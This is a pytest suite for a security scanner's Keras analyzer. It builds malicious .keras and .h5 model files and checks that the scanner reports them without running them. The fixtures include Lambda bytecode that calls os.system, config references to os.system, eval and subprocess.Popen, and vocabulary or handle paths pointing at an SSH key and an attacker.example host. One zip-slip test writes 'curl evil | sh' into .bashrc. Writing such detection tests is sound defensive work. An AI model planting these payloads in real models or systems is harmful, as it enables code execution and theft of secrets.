"""Keras analyzer: real models made by Keras 3 (torch backend) and hand-built hostile variants.

Real fixtures come from Keras itself: a functional model with a Lambda layer whose function
would create a marker file, saved as ``.keras`` and legacy ``.h5``, and benign models that
must scan clean. Hostile variants take a real archive or HDF5 layout and change only the
config, the way an attacker would (CVE-2025-1550 module references, CVE-2025-9906 safe-mode
switch, CVE-2025-12058 vocabulary paths, Keras 2 Lambda bytecode). Tests that need Keras
skip when it is not installed; the hand-built ones only need h5py.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import struct
import warnings
import zipfile
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest

from bastion.analyzer import Context, Registry, Target
from bastion.engine import scan_paths
from bastion.findings import Finding, Location, Severity
from bastion.policy import Limits, Policy
from bastion.scan import _keras_config as kc
from bastion.scan.keras import KerasAnalyzer

ANALYZER = KerasAnalyzer()


def scan(path: Path, policy: Policy | None = None, *extra: Any) -> list[Finding]:
    registry = Registry([ANALYZER, *extra])
    report = scan_paths([path], policy or Policy(), registry=registry)
    return list(report.findings)


def ids(findings: list[Finding]) -> list[str]:
    return sorted(f.rule_id for f in findings)


def lambda_code(marker: Path) -> str:
    """Keras' func_dump of a lambda that would touch ``marker``: base64 of marshal bytes."""
    fn = eval(f'lambda x: (__import__("os").system("touch {marker}"), x)[1]')
    return base64.b64encode(marshal.dumps(fn.__code__)).decode()


# -- Keras 3 fixtures (real files) -----------------------------------------------------------


@pytest.fixture(scope="session")
def keras_models(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Models saved by Keras 3 itself. The marker is created while building (Keras calls
    the Lambda to infer shapes) and deleted before any test scans."""
    os.environ.setdefault("KERAS_BACKEND", "torch")
    keras = pytest.importorskip("keras")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Keras' own deprecation noise while building
        return _build_models(keras, tmp_path_factory.mktemp("keras"))


def _build_models(keras: Any, root: Path) -> dict[str, Path]:
    marker = root / "MARKER"
    out: dict[str, Path] = {"marker": marker}

    inp = keras.Input((3,))
    hidden = keras.layers.Dense(4)(inp)
    # Built from source so the path is a constant in the bytecode, not a closure cell.
    payload = eval(f'lambda t: (__import__("os").system("touch {marker}"), t)[1]')
    evil = keras.layers.Lambda(payload)(hidden)
    model = keras.Model(inp, evil)
    for suffix in ("keras", "h5"):
        out[f"lambda.{suffix}"] = root / f"lambda.{suffix}"
        model.save(out[f"lambda.{suffix}"])

    seq = keras.Sequential([
        keras.Input((8,)), keras.layers.Dense(16, activation="relu"),
        keras.layers.BatchNormalization(), keras.layers.Dropout(0.2),
        keras.layers.Lambda(keras.ops.relu), keras.layers.Dense(2, activation="softmax"),
    ])
    seq.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    for suffix in ("keras", "h5"):
        out[f"benign.{suffix}"] = root / f"benign.{suffix}"
        seq.save(out[f"benign.{suffix}"])
    out["weights.h5"] = root / "benign.weights.h5"
    seq.save_weights(out["weights.h5"])
    out["benign.json"] = root / "benign.json"
    out["benign.json"].write_text(seq.to_json())

    @keras.saving.register_keras_serializable(package="AcmePkg")
    class Scale(keras.layers.Layer):  # type: ignore[misc]
        def call(self, x: Any) -> Any:
            return x * 2

    custom = keras.Sequential([keras.Input((2,)), Scale()])
    out["custom.keras"] = root / "custom.keras"
    custom.save(out["custom.keras"])
    marker.unlink(missing_ok=True)
    return out


def test_real_lambda_keras_archive_is_critical(keras_models: dict[str, Path]) -> None:
    """Technique: Lambda bytecode in a Keras 3 archive's config.json (CVE-2024-3660)."""
    findings = scan(keras_models["lambda.keras"])
    (hit,) = [f for f in findings if f.rule_id == "KERAS-LAMBDA-BYTECODE"]
    assert hit.severity is Severity.CRITICAL
    assert hit.location.members == ("config.json",)
    assert {"__import__", "os", "system"} <= set(hit.properties["suspicious_names"])
    assert "'lambda' (Lambda)" in (hit.evidence or "")
    assert not keras_models["marker"].exists()


def test_real_lambda_h5_is_critical(keras_models: dict[str, Path]) -> None:
    """Technique: Lambda bytecode in a legacy HDF5 model_config (CVE-2025-9905)."""
    findings = scan(keras_models["lambda.h5"])
    assert ids(findings) == ["KERAS-LAMBDA-BYTECODE"]
    assert findings[0].location.offset is not None
    assert "touch" in " ".join(findings[0].properties["strings"])
    assert not keras_models["marker"].exists()


def test_fixture_is_live_when_loaded_unsafely(keras_models: dict[str, Path]) -> None:
    """Control: the fixture really runs its payload when Keras loads it with safe_mode off,
    so the tests above show the scanner reading, not executing, a live payload."""
    keras = pytest.importorskip("keras")
    marker = keras_models["marker"]
    scan(keras_models["lambda.keras"])
    assert not marker.exists()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        keras.models.load_model(keras_models["lambda.keras"], safe_mode=False)
    assert marker.exists()
    marker.unlink()


@pytest.mark.parametrize("name", ["benign.keras", "benign.h5", "weights.h5", "benign.json"])
def test_real_benign_models_are_clean(keras_models: dict[str, Path], name: str) -> None:
    path = keras_models[name]
    assert ANALYZER.claims(Target.from_bytes(path.read_bytes()[:4096], Location(path=name)))
    assert scan(path) == []


def test_registered_custom_layer_names_its_module(keras_models: dict[str, Path]) -> None:
    """Technique: a custom object whose module the loader imports or must find registered."""
    (hit,) = scan(keras_models["custom.keras"])
    assert hit.rule_id == "KERAS-CUSTOM-OBJECT"
    assert hit.severity is Severity.MEDIUM
    assert hit.properties["name"] == "Scale"
    assert hit.properties["module"].endswith("test_keras")


def test_archive_members_are_dispatched(keras_models: dict[str, Path], tmp_path: Path) -> None:
    """Technique: a pickle smuggled into a .keras archive's assets, next to a clean config."""
    from tests.scan.payloads import reduce_os_system

    from bastion.scan.pickle import PickleAnalyzer

    path = rewrite_archive(keras_models["benign.keras"], tmp_path / "assets.keras",
                           extra={"assets/tokenizer.pkl": reduce_os_system(str(tmp_path), 2)})
    findings = scan(path, None, PickleAnalyzer())
    nested = [f for f in findings if f.location.members == ("assets/tokenizer.pkl",)]
    assert nested
    assert max(f.severity for f in nested) is Severity.CRITICAL


# -- hand-built configs in the real layouts ----------------------------------------------------


def functional(*layers: dict[str, Any]) -> dict[str, Any]:
    """A Keras 3 functional config around the given layer dicts."""
    return {
        "module": "keras.src.models.functional", "class_name": "Functional",
        "registered_name": "Functional",
        "config": {"name": "functional", "trainable": True, "layers": [
            {"module": "keras.layers", "class_name": "InputLayer",
             "config": {"batch_shape": [None, 3], "dtype": "float32", "name": "input_layer"},
             "registered_name": None, "name": "input_layer", "inbound_nodes": []},
            *layers,
        ]},
    }


def lambda_layer(function: Any, name: str = "lambda", **extra: Any) -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": name, "trainable": True, "function": function,
                       "arguments": extra.pop("arguments", {}), **extra},
            "name": name, "inbound_nodes": []}


def fn_ref(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name,
            "registered_name": "function"}


def rewrite_archive(source: Path, dest: Path, *, config: Any = None,
                    extra: dict[str, bytes] | None = None) -> Path:
    """Copy a real .keras archive, replacing config.json and adding members."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(dest, "w") as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "config.json" and config is not None:
                data = config if isinstance(config, bytes) else json.dumps(config).encode()
            out.writestr(info, data)
        for name, data in (extra or {}).items():
            out.writestr(name, data)
    return dest


def keras_zip(dest: Path, config: Any) -> Path:
    """A .keras archive with Keras 3's member layout, for tests that run without Keras."""
    weights = io.BytesIO()
    with h5py.File(weights, "w") as f:
        f.create_group("layers")
        f.create_group("vars")
    with zipfile.ZipFile(dest, "w") as out:
        out.writestr("metadata.json", json.dumps({"keras_version": "3.8.0",
                                                  "date_saved": "2025-01-01@00:00:00"}))
        body = config if isinstance(config, bytes) else json.dumps(config).encode()
        out.writestr("config.json", body)
        out.writestr("model.weights.h5", weights.getvalue())
    return dest


def legacy_h5(dest: Path, config: Any, **kwargs: Any) -> Path:
    """A legacy Keras HDF5 file: root attributes and a model_weights group, as Keras writes."""
    attrs = kwargs.pop("attrs", {})
    with h5py.File(dest, "w", **kwargs) as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.12.0"
        f.attrs["model_config"] = (config if isinstance(config, (str, bytes))
                                   else json.dumps(config))
        for key, value in attrs.items():
            f.attrs[key] = value
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"dense"])
        weights.create_dataset("dense/kernel:0", data=np.ones((3, 4), np.float32))
    return dest


@pytest.mark.parametrize(("function", "expected"), [
    (fn_ref("os", "system"), "os.system"),
    (fn_ref("subprocess", "check_output"), "subprocess.check_output"),
    (fn_ref("builtins", "exec"), "exec"),
    (fn_ref("keras.config", "enable_unsafe_deserialization"), "enable_unsafe_deserialization"),
    (fn_ref("keras.models", "load_model"), "keras.models.load_model"),
    (fn_ref("keras.src.utils.file_utils", "get_file"), "get_file"),
    (fn_ref("keras.src.backend.common.global_state", "set_global_attribute"),
     "set_global_attribute"),
    (fn_ref("numpy", "load"), "numpy.load"),
    (fn_ref("tensorflow.io", "write_file"), "tensorflow.io.write_file"),
])
def test_unsafe_function_references(tmp_path: Path, function: dict[str, Any],
                                    expected: str) -> None:
    """Technique: a config naming a callable outside model code (CVE-2025-1550, CVE-2025-8747,
    CVE-2025-9906): the Lambda 'function' or any object resolved by module + name."""
    findings = scan(keras_zip(tmp_path / "m.keras", functional(lambda_layer(function))))
    (hit,) = findings
    assert hit.rule_id == "KERAS-UNSAFE-REFERENCE"
    assert hit.severity is Severity.CRITICAL
    assert expected in (hit.evidence or "")


def test_unsafe_class_reference_in_layer(tmp_path: Path) -> None:
    """Technique: a layer entry whose module/class_name point at subprocess.Popen."""
    layer = {"module": "subprocess", "class_name": "Popen", "registered_name": None,
             "config": {"args": ["sh", "-c", "id"]}, "name": "x", "inbound_nodes": []}
    (hit,) = scan(keras_zip(tmp_path / "m.keras", functional(layer)))
    assert hit.rule_id == "KERAS-UNSAFE-REFERENCE"
    assert hit.properties["role"] == "class"


@pytest.mark.parametrize("function", [
    fn_ref("builtins", "relu"),  # Keras <= 3.6 saved built-in activations this way
    fn_ref("keras.src.ops.nn", "relu"),
    fn_ref("keras.activations", "gelu"),
    fn_ref("tensorflow.python.ops.math_ops", "square"),
    fn_ref("numpy", "square"),
])
def test_modelling_functions_are_clean(tmp_path: Path, function: dict[str, Any]) -> None:
    assert scan(keras_zip(tmp_path / "m.keras", functional(lambda_layer(function)))) == []


def test_function_from_user_module_is_custom(tmp_path: Path) -> None:
    """Technique: a function from a module outside Keras, imported by Keras <= 3.8."""
    (hit,) = scan(keras_zip(tmp_path / "m.keras",
                            functional(lambda_layer(fn_ref("acme.ops", "shift")))))
    assert hit.rule_id == "KERAS-CUSTOM-OBJECT"
    assert hit.properties == {"where": hit.properties["where"], "module": "acme.ops",
                              "name": "shift", "role": "function"}


def test_keras3_lambda_in_hand_built_archive(tmp_path: Path) -> None:
    """Technique: Keras 3 __lambda__ code in output_shape as well as function."""
    code = {"class_name": "__lambda__",
            "config": {"code": lambda_code(tmp_path / "M"), "defaults": None, "closure": None}}
    layer = lambda_layer(code, output_shape=code)
    findings = scan(keras_zip(tmp_path / "m.keras", functional(layer)))
    assert ids(findings) == ["KERAS-LAMBDA-BYTECODE"] * 2
    assert {f.properties["where"].split(" in ")[0] for f in findings} == {
        "$.config.layers[1].config.function", "$.config.layers[1].config.output_shape"}


def test_generic_lambda_value_form(tmp_path: Path) -> None:
    """Technique: serialize_keras_object's {"class_name": "__lambda__", "config": {"value":
    [code, defaults, closure]}} anywhere, here as a Dense activation."""
    dense = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
             "config": {"name": "dense", "units": 2, "activation": {
                 "class_name": "__lambda__",
                 "config": {"value": [lambda_code(tmp_path / "M"), None, None]}}}}
    (hit,) = scan(keras_zip(tmp_path / "m.keras", functional(dense)))
    assert hit.rule_id == "KERAS-LAMBDA-BYTECODE"
    assert "activation" in hit.properties["where"]


@pytest.mark.parametrize(("layer", "needle"), [
    ({"module": "keras.layers", "class_name": "StringLookup",
      "config": {"name": "lookup", "vocabulary": "/home/user/.ssh/id_rsa"}}, "id_rsa"),
    ({"module": "keras.layers", "class_name": "TextVectorization",
      "config": {"name": "tv", "vocabulary": "gs://attacker/bucket/vocab.txt"}}, "gs://"),
    ({"module": "keras.layers", "class_name": "TFSMLayer",
      "config": {"name": "tfsm", "filepath": "/tmp/evil_savedmodel"}}, "evil_savedmodel"),
    ({"class_name": "KerasLayer",
      "config": {"name": "hub", "handle": "https://attacker.example/model"}}, "attacker"),
])
def test_external_resources(tmp_path: Path, layer: dict[str, Any], needle: str) -> None:
    """Technique: a layer that opens a path from the config on load (CVE-2025-12058,
    CVE-2026-1462)."""
    (hit,) = scan(keras_zip(tmp_path / "m.keras", functional(layer)))
    assert hit.rule_id == "KERAS-EXTERNAL-RESOURCE"
    assert hit.severity is Severity.HIGH
    assert needle in (hit.evidence or "")


def test_lookup_with_inline_vocabulary_is_clean(tmp_path: Path) -> None:
    layer = {"module": "keras.layers", "class_name": "StringLookup",
             "config": {"name": "lookup", "vocabulary": ["a", "b"]}}
    assert scan(keras_zip(tmp_path / "m.keras", functional(layer))) == []


# -- legacy HDF5 (Keras 2 / tf.keras layout) ---------------------------------------------------


def keras2_model(*layers: dict[str, Any]) -> dict[str, Any]:
    return {"class_name": "Functional", "config": {
        "name": "model", "layers": [
            {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 3],
                                                    "dtype": "float32", "name": "input_1"},
             "name": "input_1", "inbound_nodes": []},
            *layers],
        "input_layers": [["input_1", 0, 0]], "output_layers": [["lambda", 0, 0]]}}


def keras2_lambda(function: Any, function_type: str, module: str = "__main__") -> dict[str, Any]:
    return {"class_name": "Lambda", "name": "lambda", "inbound_nodes": [[["input_1", 0, 0, {}]]],
            "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                       "function": function, "function_type": function_type, "module": module,
                       "output_shape": None, "output_shape_type": "raw",
                       "output_shape_module": None, "arguments": {}}}


def test_keras2_lambda_bytecode_in_h5(tmp_path: Path) -> None:
    """Technique: tf.keras 2 Lambda, function = [base64 marshal, defaults, closure]."""
    marker = tmp_path / "MARKER"
    config = keras2_model(keras2_lambda([lambda_code(marker), None, None], "lambda"))
    (hit,) = scan(legacy_h5(tmp_path / "m.h5", config))
    assert hit.rule_id == "KERAS-LAMBDA-BYTECODE"
    assert hit.properties["code_object"] is True
    assert "system" in hit.properties["suspicious_names"]
    assert not marker.exists()


def test_keras2_lambda_raw_unicode_code(tmp_path: Path) -> None:
    """Technique: code that is not base64; func_load falls back to raw_unicode_escape."""
    raw = marshal.dumps((lambda: __import__("os").system("id")).__code__)
    code = raw.decode("latin-1") + "!"  # '!' is not base64: forces the fallback
    config = keras2_model(keras2_lambda(code, "lambda"))
    (hit,) = scan(legacy_h5(tmp_path / "m.h5", config))
    assert hit.rule_id == "KERAS-LAMBDA-BYTECODE"
    assert "system" in hit.properties["suspicious_names"]


def test_keras2_lambda_named_function_in_dangerous_module(tmp_path: Path) -> None:
    """Technique: function_type 'function' resolved from module 'os' (os.system)."""
    config = keras2_model(keras2_lambda("system", "function", module="os"))
    (hit,) = scan(legacy_h5(tmp_path / "m.h5", config))
    assert hit.rule_id == "KERAS-UNSAFE-REFERENCE"
    assert "os.system" in (hit.evidence or "")


def test_keras2_registered_custom_object_is_low(tmp_path: Path) -> None:
    layer = {"class_name": "Custom>Attention", "config": {"name": "att"}, "name": "att",
             "inbound_nodes": []}
    (hit,) = scan(legacy_h5(tmp_path / "m.h5", keras2_model(layer)))
    assert (hit.rule_id, hit.severity) == ("KERAS-CUSTOM-OBJECT", Severity.LOW)


def test_training_config_is_checked(tmp_path: Path) -> None:
    """Technique: a loss resolved to builtins.eval in training_config, not model_config."""
    training = {"loss": fn_ref("builtins", "eval"), "metrics": ["accuracy"],
                "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}}}
    path = legacy_h5(tmp_path / "m.h5", keras2_model(),
                     attrs={"training_config": json.dumps(training)})
    (hit,) = scan(path)
    assert hit.rule_id == "KERAS-UNSAFE-REFERENCE"


@pytest.mark.parametrize("variant", ["fixed-bytes", "userblock", "libver-latest"])
def test_hdf5_layout_variants(tmp_path: Path, variant: str) -> None:
    """Technique: the same Lambda config in HDF5 layouts h5py can write (fixed-length
    string, a 512-byte user block, version 2 object headers)."""
    config = json.dumps(keras2_model(keras2_lambda([lambda_code(tmp_path), None, None],
                                                   "lambda")))
    kwargs: dict[str, Any] = {}
    value: Any = config
    if variant == "fixed-bytes":
        value = np.bytes_(config.encode())
    elif variant == "userblock":
        kwargs["userblock_size"] = 512
    else:
        kwargs["libver"] = "latest"
    path = legacy_h5(tmp_path / "m.h5", value, **kwargs)
    assert ids(scan(path)) == ["KERAS-LAMBDA-BYTECODE"]


def test_dense_attribute_storage_falls_back_to_raw_scan(tmp_path: Path) -> None:
    """Technique: enough root attributes that HDF5 moves them to a fractal heap, out of the
    object header this reader follows."""
    config = keras2_model(keras2_lambda([lambda_code(tmp_path), None, None], "lambda"))
    attrs = {f"pad{i}": f"value {i}" for i in range(20)}
    path = legacy_h5(tmp_path / "m.h5", config, libver="latest", attrs=attrs)
    assert ids(scan(path)) == ["KERAS-LAMBDA-BYTECODE"]


def test_dense_storage_without_config_is_a_low_coverage_note(tmp_path: Path) -> None:
    path = tmp_path / "data.h5"
    with h5py.File(path, "w", libver="latest") as f:
        for i in range(20):
            f.attrs[f"a{i}"] = i
    (hit,) = scan(path)
    assert (hit.rule_id, hit.severity) == ("KERAS-HDF5-UNCHECKED", Severity.LOW)


def test_dense_storage_out_of_raw_reach_in_keras_file_is_medium(tmp_path: Path) -> None:
    """Technique: dense attributes whose heap lies past the raw-scan window of a file that
    has Keras' model_weights group: the gap is reported at a level that fails the gate."""
    config = keras2_model(keras2_lambda([lambda_code(tmp_path), None, None], "lambda"))
    path = tmp_path / "m.h5"
    with h5py.File(path, "w", libver="latest") as f:
        f.create_dataset("model_weights/pad", data=np.zeros(50_000, np.float64))
        f.attrs["model_config"] = json.dumps(config)
        for i in range(20):
            f.attrs[f"pad{i}"] = i
    (hit,) = scan(path, Policy(limits=Limits(max_header_size=64 * 1024)))
    assert (hit.rule_id, hit.severity) == ("KERAS-HDF5-UNCHECKED", Severity.MEDIUM)


def test_plain_hdf5_dataset_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "data.h5"
    with h5py.File(path, "w") as f:
        f.attrs["description"] = "measurements"
        f.create_dataset("x", data=np.arange(100))
    assert scan(path) == []


def test_truncated_hdf5_is_reported(tmp_path: Path) -> None:
    """Technique: a file cut short, so the root header or heap points past the end."""
    config = keras2_model(keras2_lambda([lambda_code(tmp_path), None, None], "lambda"))
    full = legacy_h5(tmp_path / "m.h5", config).read_bytes()
    path = tmp_path / "cut.h5"
    path.write_bytes(full[:1200])
    findings = scan(path)
    assert "KERAS-HDF5-UNCHECKED" in ids(findings)
    (hit,) = [f for f in findings if f.rule_id == "KERAS-HDF5-UNCHECKED"]
    assert hit.severity is Severity.MEDIUM


def test_heap_reference_past_end_of_file(tmp_path: Path) -> None:
    """Technique: a vlen string's global heap address patched to point past the file."""
    path = legacy_h5(tmp_path / "m.h5", keras2_model())
    data = bytearray(path.read_bytes())
    at = data.index(b"model_config\0")
    # the attribute's data (length, heap address, index) follows name, datatype, dataspace
    gcol = data.index(b"GCOL")
    addr = gcol.to_bytes(8, "little")
    ref = data.index(addr, at)
    data[ref:ref + 8] = (len(data) + 4096).to_bytes(8, "little")
    path.write_bytes(bytes(data))
    findings = scan(path)
    assert any(f.rule_id == "KERAS-HDF5-UNCHECKED" and "past the end" in f.message
               for f in findings)


# -- bounds and malformed input --------------------------------------------------------------


def test_invalid_json_config_is_malformed(tmp_path: Path) -> None:
    (hit,) = scan(keras_zip(tmp_path / "m.keras", b'{"class_name": "Functional", "config": '))
    assert (hit.rule_id, hit.severity) == ("KERAS-CONFIG-MALFORMED", Severity.HIGH)


def test_broken_zip_is_reported_by_the_archive_reader(tmp_path: Path) -> None:
    """A .keras archive gets the shared zip checks: here, no central directory at all."""
    path = tmp_path / "m.keras"
    header = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 200, 200, 11, 0)
    path.write_bytes(header + b"config.json" + b"\xff" * 200)
    assert ANALYZER.claims(Target.from_bytes(path.read_bytes(), Location(path="m.keras")))
    (hit,) = scan(path)
    assert (hit.rule_id, hit.severity) == ("ARCHIVE-CORRUPT", Severity.HIGH)


def test_deeply_nested_config_is_a_limit(tmp_path: Path) -> None:
    """Technique: nesting deep enough to blow a recursive walker or the JSON decoder."""
    body = b'{"class_name": "Functional", "config": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    (hit,) = scan(keras_zip(tmp_path / "m.keras", body))
    assert hit.rule_id == "KERAS-CONFIG-LIMIT"


def test_iterative_walk_handles_deep_but_valid_json() -> None:
    """The walker itself never recurses: 900 levels (under the decoder's guard) are fine."""
    config: Any = lambda_layer(fn_ref("os", "system"))
    for _ in range(900):
        config = {"wrap": [config]}
    (issue,) = kc.inspect(config)
    assert issue.kind == "unsafe"
    assert issue.where.startswith("$…")


def test_config_over_size_limit(tmp_path: Path) -> None:
    policy = Policy(limits=Limits(max_header_size=1024))
    config = functional(lambda_layer(fn_ref("os", "system"), arguments={"pad": "x" * 4096}))
    (hit,) = scan(keras_zip(tmp_path / "m.keras", config), policy)
    assert hit.rule_id == "KERAS-CONFIG-LIMIT"


def test_unreadable_member_does_not_stop_the_scan(tmp_path: Path) -> None:
    """Technique: an asset with a compression method nobody decodes, placed so a scanner
    that gives up on the first error never reads the config after it."""
    path = tmp_path / "m.keras"
    with zipfile.ZipFile(path, "w") as out:
        out.writestr("assets/blob.bin", b"x" * 64)
        out.writestr("config.json", json.dumps(functional(lambda_layer(fn_ref("os", "system")))))
    data = bytearray(path.read_bytes())
    for sig, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):  # method field, both headers
        pos = data.index(sig)
        data[pos + at:pos + at + 2] = struct.pack("<H", 99)
    path.write_bytes(bytes(data))
    found = ids(scan(path))
    assert "KERAS-UNSAFE-REFERENCE" in found
    assert any(rule.startswith("ARCHIVE-") for rule in found)


def test_path_traversal_member_in_keras_archive(tmp_path: Path) -> None:
    """Technique: a zip-slip member name next to a clean config (archive checks apply)."""
    path = keras_zip(tmp_path / "m.keras", functional())
    with zipfile.ZipFile(path, "a") as out:
        out.writestr("../../.bashrc", "curl evil | sh")
    assert "ARCHIVE-PATH-TRAVERSAL" in ids(scan(path))


def test_duplicate_config_members_are_all_checked(tmp_path: Path) -> None:
    """Technique: two config.json entries, a clean one first for scanners that stop there;
    zipfile (and so Keras) reads the last."""
    path = tmp_path / "m.keras"
    with zipfile.ZipFile(path, "w") as out, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        out.writestr("config.json", json.dumps(functional()))
        out.writestr("config.json", json.dumps(functional(lambda_layer(fn_ref("os", "system")))))
    assert "KERAS-UNSAFE-REFERENCE" in ids(scan(path))


def test_findings_are_capped(tmp_path: Path) -> None:
    layers = [lambda_layer(fn_ref("os", "system"), name=f"l{i}") for i in range(300)]
    findings = scan(keras_zip(tmp_path / "m.keras", functional(*layers)))
    assert len(findings) == 257
    assert ids(findings).count("KERAS-CONFIG-LIMIT") == 1


def test_nesting_depth_is_enforced(tmp_path: Path) -> None:
    path = keras_zip(tmp_path / "m.keras", functional())
    data = path.read_bytes()
    target = Target(Location(path="m.keras"), len(data), data[:4096],
                    lambda: io.BytesIO(data), depth=4)
    findings = list(ANALYZER.analyze(target, Context(registry=Registry([ANALYZER]))))
    assert [f.rule_id for f in findings] == ["ARCHIVE-DEPTH-EXCEEDED"]


def test_bare_json_config_with_lambda(tmp_path: Path) -> None:
    """Technique: model.to_json() output handed to model_from_json."""
    path = tmp_path / "model.json"
    path.write_text(json.dumps(functional(lambda_layer(fn_ref("builtins", "eval")))))
    assert ids(scan(path)) == ["KERAS-UNSAFE-REFERENCE"]


@pytest.mark.parametrize("head", [
    struct.pack("<4s22xHH", b"PK\x03\x04", 16, 0) + b"archive/data.pkl",  # a torch zip
    struct.pack("<4s22xHH", b"PK\x03\x04", 15, 0) + b"sub/config.json",  # not at the root
    b'{"architectures": ["BertModel"], "hidden_size": 768}',  # a transformers config
    b"\x89PNG\r\n\x1a\n",
    b"\x89HDF\r\n\x1a",  # one byte short of the signature
])
def test_claims_are_conservative(head: bytes) -> None:
    assert not ANALYZER.claims(Target.from_bytes(head, Location(path="x")))


def test_claims_hdf5_at_user_block_offsets() -> None:
    for offset in (0, 512, 1024, 2048):
        data = b"\0" * offset + b"\x89HDF\r\n\x1a\n" + b"\0" * 64
        assert ANALYZER.claims(Target.from_bytes(data, Location(path="x")))


def test_marshal_strings_reads_names_without_loading() -> None:
    raw = marshal.dumps((lambda: __import__("subprocess").check_output(["id"])).__code__)
    strings = kc.marshal_strings(raw)
    assert {"__import__", "subprocess", "check_output", "id"} <= set(strings)
    assert kc.marshal_strings(b"\xff" * 64) == []


def test_lambda_code_that_is_not_code_object(tmp_path: Path) -> None:
    """Marshalled data that is not a code object is still reported: func_load hands it on."""
    data = base64.b64encode(marshal.dumps(("os", "system"))).decode()
    (hit,) = scan(keras_zip(tmp_path / "m.keras",
                            functional(lambda_layer({"class_name": "__lambda__",
                                                     "config": {"code": data}}))))
    assert hit.properties["code_object"] is False


def test_hostile_text_in_evidence_is_made_visible(tmp_path: Path) -> None:
    layer = {"module": "evil\x1b[31m.mod", "class_name": "X\u202e", "config": {"name": "n"}}
    (hit,) = scan(keras_zip(tmp_path / "m.keras", functional(layer)))
    assert "\x1b" not in (hit.evidence or "")
    assert "\u202e" not in hit.message
    assert "\x1b" not in json.dumps(hit.properties)


def test_scanning_everything_never_creates_the_marker(
        keras_models: dict[str, Path], tmp_path: Path) -> None:
    marker = keras_models["marker"]
    marker.unlink(missing_ok=True)
    root = keras_models["lambda.keras"].parent
    report = scan_paths([root], registry=Registry([ANALYZER]))
    assert any(f.rule_id == "KERAS-LAMBDA-BYTECODE" for f in report.findings)
    assert not marker.exists()


# -- the pure HDF5 reader against h5py, and against random damage ------------------------------


@pytest.mark.parametrize("kwargs", [{}, {"libver": "latest"}, {"userblock_size": 1024}])
def test_hdf5_reader_agrees_with_h5py(tmp_path: Path, kwargs: dict[str, Any]) -> None:
    """Every string attribute h5py reads back, the pure reader reads the same."""
    from bastion.scan._hdf5 import read_root_attributes, superblock_offset

    path = tmp_path / "x.h5"
    with h5py.File(path, "w", **kwargs) as f:
        f.attrs["vlen"] = "é" * 5000  # a variable-length UTF-8 string in the global heap
        f.attrs["fixed"] = np.bytes_(b"fixed-length bytes")
        f.attrs["number"] = 42
        f.attrs["names"] = np.array([b"dense", b"dense_1"])
        f.attrs["big"] = "x" * 40_000  # forces an object header continuation block
        f.create_dataset("w", data=np.ones(8))
    data = path.read_bytes()
    with path.open("rb") as stream:
        root = read_root_attributes(stream, len(data), superblock_offset(data[:4096]) or 0,
                                    max_string=10**6)
    ours = {a.name: a.values for a in root.attributes}
    assert root.unfollowed == []
    with h5py.File(path, "r") as f:
        for name, value in f.attrs.items():
            expected = np.atleast_1d(value).tolist()
            if isinstance(expected[0], (str, bytes)):
                got = [v.decode() if isinstance(expected[0], str) else v for v in ours[name]]
                assert got == expected, name
            else:
                assert ours[name] == (), name


def test_random_damage_never_escapes(keras_models: dict[str, Path]) -> None:
    """Flipped bytes anywhere in a real .h5 and .keras give findings, never a crash."""
    import random

    rng = random.Random(1234)
    for name in ("lambda.h5", "lambda.keras"):
        original = keras_models[name].read_bytes()
        for _ in range(150):
            data = bytearray(original)
            for _ in range(rng.randint(1, 8)):
                data[rng.randrange(len(data))] = rng.randrange(256)
            target = Target.from_bytes(bytes(data), Location(path=name))
            if not ANALYZER.claims(target):
                continue
            findings = list(ANALYZER.analyze(target, Context(registry=Registry([ANALYZER]))))
            assert {f.rule_id for f in findings} <= {rule.id for rule in ANALYZER.rules}


def test_hdf5_behind_a_large_user_block_is_still_claimed(tmp_path: Path) -> None:
    """HDF5 allows a user block of any power of two from 512: a 64 KiB one pushes the
    superblock far past the 4 KiB head that claims look at; the analyzer probes for it."""
    h5py = pytest.importorskip("h5py")
    path = tmp_path / "blocked.h5"
    config = json.dumps({"class_name": "Sequential", "config": {"layers": [{
        "class_name": "Lambda", "config": {"name": "l", "function": {
            "module": "os", "class_name": "function", "config": "system",
            "registered_name": "function"}}}]}})
    with h5py.File(path, "w", userblock_size=65536) as handle:
        handle.attrs["model_config"] = config
    from bastion.scan import scan_path

    report = scan_path(path)
    assert any(f.severity.value == "critical" for f in report.findings), report.findings


def test_policy_allows_trusted_custom_keras_modules(tmp_path: Path) -> None:
    from bastion.policy import parse_policy
    from bastion.scan import scan_path

    config = {"class_name": "Sequential", "config": {"layers": [{
        "module": "acme.layers", "class_name": "Gate", "config": {"name": "g"},
        "registered_name": "acme>Gate"}]}}
    path = tmp_path / "config.json"
    path.write_text(json.dumps(config))
    assert "KERAS-CUSTOM-OBJECT" in {f.rule_id for f in scan_path(path).findings}
    policy = parse_policy({"allow": {"keras-modules": ["acme.*"]}})
    assert "KERAS-CUSTOM-OBJECT" not in {f.rule_id for f in scan_path(path, policy=policy).findings}
